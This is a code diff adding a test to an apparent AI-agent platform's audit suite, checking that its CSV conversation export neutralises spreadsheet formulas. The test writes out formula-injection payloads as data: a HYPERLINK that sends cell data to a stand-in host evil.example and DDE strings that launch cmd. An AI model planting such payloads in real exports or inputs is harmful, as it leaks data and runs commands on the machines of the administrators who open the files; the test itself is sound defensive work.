@@ -14,7 +14,7 @@ import sqlalchemy as sa
 
 from magec.audit.tables import audit_turns
 from magec.testing.apps import Apps
-from magec.testing.fake_providers import FakeServer, OpenAIFake
+from magec.testing.fake_providers import FakeServer, OpenAIFake, Reply
 from tests.audit.helpers import A, C, U, agent, backend, conversations, detail, only, run, turns
 
 
@@ -147,3 +147,19 @@ async def test_retention_prune(apps: Apps, llm: FakeServer) -> None:
     assert t["userMessage"] == "beta follow-up"  # the newest turn is kept
     r = await apps.admin.put(f"{A}/settings", json={"conversations": {"maxTurns": -1}})
     assert r.status_code == 400
+
+
+async def test_export_csv_cells_are_never_formulas(sqlite_apps: Apps, llm: FakeServer) -> None:
+    # a user id, a message and an answer crafted to run when an admin opens the export
+    user = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    message = "=2+5+cmd|' /C calc'!A0"
+    answer = "@SUM(1+1)*cmd|' /C calc'!A0"
+    aid = await agent(sqlite_apps, await backend(sqlite_apps, llm.url), "Sheet")
+    llm.script(Reply(text=answer))
+    await run(sqlite_apps, aid, message, user=user, session="formula")
+    r = await sqlite_apps.admin.get(f"{C}/export", params={"format": "csv"})
+    assert r.status_code == 200
+    [row] = [row for row in csv.DictReader(io.StringIO(r.text)) if row["sessionId"] == "formula"]
+    assert (row["userId"], row["userMessage"], row["answer"]) == ("'" + user, "'" + message, "'" + answer)
+    # what no spreadsheet reads as a formula is left alone
+    assert row["agentName"] == "Sheet" and row["inputTokens"].isdigit()
